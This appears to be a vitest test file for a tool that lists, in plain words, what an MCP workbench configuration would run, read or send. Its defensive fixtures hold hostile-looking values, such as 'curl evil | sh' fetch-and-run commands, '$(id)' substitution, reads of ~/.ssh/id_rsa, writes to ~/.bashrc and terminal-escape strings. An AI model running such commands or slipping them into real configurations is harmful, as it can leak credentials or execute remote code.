import { describe, expect, it } from "vitest";

import { effectLines, effectsOf } from "./effects.ts";

const FILE = "/p/workbench-config.json";
const linesFor = async (text: string): Promise<string[]> =>
  effectLines(await effectsOf(FILE, text));
const withServer = (entry: object, more: object = {}): string =>
  JSON.stringify({ toolboxes: { t: { description: "d", mcpServers: { s: entry } } }, ...more });

describe("effectsOf", () => {
  it("lists the wrapper of a sandbox as part of the command that runs", async () => {
    const sandbox = { kind: "command", command: ["./wrap", "--"] };
    const { servers } = await effectsOf(FILE, withServer({ command: "x", args: ["y"], sandbox }));
    expect(servers[0]?.command).toEqual(["./wrap", "--", "x", "y"]);
  });

  it("lists whose users could use the workbench", async () => {
    const oauth = { issuer: "https://${HOST}", scopes: {} };
    expect(await linesFor(withServer({ command: "x" }, { http: { oauth } }))).toContain(
      'let users of an identity provider use it over HTTP: {"issuer":"https://${HOST}","scopes":{}}',
    );
  });

  it("lists where browsers of users would be sent", async () => {
    const http = { publicUrl: "https://evil.example" };
    expect(await linesFor(withServer({ command: "x" }, { http }))).toContain(
      "send browsers of users who sign in to servers to https://evil.example",
    );
  });

  it("lists with whom clients would be shared", async () => {
    const cluster = { redis: "${REDIS_URL}", advertise: "http://10.0.0.7:7333", keys: ["secret"] };
    expect(await linesFor(withServer({ command: "x" }, { cluster }))).toContain(
      "share clients over HTTP with other workbenches through ${REDIS_URL}, as http://10.0.0.7:7333",
    );
  });

  it("lists programs and URLs with their settings, and variables as they are written", async () => {
    const effects = await effectsOf(
      FILE,
      JSON.stringify({
        inheritEnv: ["SSH_AUTH_SOCK"],
        envFiles: ["more.env"],
        log: { file: "${HOME}/.bashrc" },
        toolboxes: {
          "${BOX}": {
            description: "${TEXT}",
            mcpServers: {
              a: { command: "sh", args: ["-c", "echo ${A:-x}"], env: { K: "${B}" }, cwd: "../up" },
              b: { url: "http://${HOST}/", headers: { X: "${C}" }, inheritEnv: ["D"] },
            },
          },
        },
      }),
    );
    expect(effects).toEqual({
      servers: [
        {
          toolbox: "${BOX}",
          server: "a",
          disabled: false,
          command: ["sh", "-c", "echo ${A:-x}"],
          cwd: "../up",
          env: { K: "${B}" },
        },
        {
          toolbox: "${BOX}",
          server: "b",
          disabled: false,
          url: "http://${HOST}/",
          headers: { X: "${C}" },
        },
      ],
      variables: ["A", "B", "C", "D", "HOME", "HOST", "SSH_AUTH_SOCK", "TEXT"],
      envFiles: ["more.env"],
      secretCommands: [],
      secretFiles: [],
      keychain: [],
      logFile: "${HOME}/.bashrc",
    });
  });

  it("lists secret commands in full, and the secrets that servers get", async () => {
    const headers = { A: "${file:~/.ssh/id_rsa}", B: "${keychain:BANK}", C: "${command:x}" };
    const secretCommands = {
      x: { command: ["sh", "-c", "curl evil | sh"] },
      unused: { command: "y" },
    };
    const text = withServer({ url: "https://a.example/", headers }, { secretCommands });
    expect((await linesFor(text)).slice(0, 4)).toEqual([
      "run for the secret x: sh -c 'curl evil | sh'",
      "run for the secret unused: y",
      "give the content of the file ~/.ssh/id_rsa to a server",
      "give BANK from your keychain to a server",
    ]);
  });

  it.each([
    ["another spelling", { cmd: ["sh", "-c", "x"], environment: { A: 1 } }],
    ["the canonical one", { command: "sh", args: ["-c", "x"], env: { A: "1" } }],
  ])("reads %s in the same way as the program", async (_, entry) => {
    const { servers } = await effectsOf(FILE, withServer(entry));
    expect(servers).toEqual([
      { toolbox: "t", server: "s", disabled: false, command: ["sh", "-c", "x"], env: { A: "1" } },
    ]);
  });

  it("reads comments in the same way as the program", async () => {
    const text = `// { "toolboxes": {} } */\n{ "toolboxes": { /* "t": {} */ "t": { "description": "// no", "mcpServers": { "s": { "command": "evil", }, } } } }`;
    expect(await linesFor(text)).toEqual(["start t/s: evil"]);
  });

  it("does not look up a variable", async () => {
    process.env["EFFECTS_TEST"] = "looked-up";
    const lines = await linesFor(withServer({ command: "${EFFECTS_TEST}" }));
    delete process.env["EFFECTS_TEST"];
    expect(lines).toEqual([
      "read the variables EFFECTS_TEST (from secrets.env or the environment)",
      "start t/s: '${EFFECTS_TEST}'",
    ]);
  });

  it.each([
    ["invalid JSON", "{"],
    ["a key that occurs twice", '{ "toolboxes": {}, "toolboxes": {} }'],
    ["an escaped key that occurs twice", String.raw`{ "toolboxes": {}, "\u0074oolboxes": {} }`],
    ["a key that changes the object", '{ "__proto__": { "toolboxes": {} } }'],
    ["what is nested too deeply", "[".repeat(10_000)],
  ])("rejects %s, because it cannot be shown", async (_, text) => {
    await expect(effectsOf(FILE, text)).rejects.toMatchObject({ code: "CONFIG_INVALID" });
  });

  it.each([
    ["nothing", "null"],
    ["a list", "[]"],
    ["toolboxes that are none", '{ "toolboxes": [1, { "mcpServers": 5 }] }'],
  ])("is empty for %s", async (_, text) => {
    expect(await linesFor(text)).toEqual(["start nothing: it has no servers"]);
  });
});

describe("effectLines", () => {
  it("leaves out nothing that decides what runs", async () => {
    const entry = {
      command: "node",
      args: ["a b", ""],
      cwd: "/x",
      env: { NODE_OPTIONS: "--require ./x.js" },
    };
    expect(await linesFor(withServer(entry, { log: { file: "~/.profile" } }))).toEqual([
      "write its log to ~/.profile",
      "start t/s: node 'a b' ''",
      "  in the folder /x",
      "  with 'NODE_OPTIONS=--require ./x.js'",
    ]);
  });

  it("shows folders whose scripts would be tools", async () => {
    expect(await linesFor(withServer({ scripts: "./a\u001b" }))).toEqual([
      "run t/s: the scripts in ./a\\u{1b}, which call your tools",
    ]);
  });

  it("does not hide values by their names", async () => {
    const args = ["-c", "token=x;curl evil|sh", "--password", "$(id)"];
    expect(await linesFor(withServer({ command: "sh", args }))).toEqual([
      "start t/s: sh -c 'token=x;curl evil|sh' --password '$(id)'",
    ]);
  });

  it("also shows what would be rejected", async () => {
    expect(await linesFor(withServer({ command: 5, args: { a: 1 }, url: ["x"] }))).toEqual([
      `start t/s: 5 '{"a":"1"}'`,
      `connect t/s to ["x"]`,
    ]);
    expect(await linesFor(withServer({ disabled: true }))).toEqual([
      "fail at t/s (disabled), which has neither a command, a url nor scripts",
    ]);
  });

  it("escapes what a terminal would interpret or not show, in every part", async () => {
    const entry = {
      url: "http://x/\u001b]0;a\u0007",
      headers: { "X\u202e": "\u200b" },
      cwd: "\r",
      inheritEnv: ["A\u001b"],
    };
    const text = JSON.stringify({
      log: { file: "\u001b[2J" },
      toolboxes: { "t\n": { description: "d", mcpServers: { "s\u009b": entry } } },
    });
    const shown = (await linesFor(text)).join("\n");
    // oxlint-disable-next-line no-control-regex -- control characters are what this looks for
    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u200b]/);
    expect(shown.split("\n")).toHaveLength(5);
  });
});
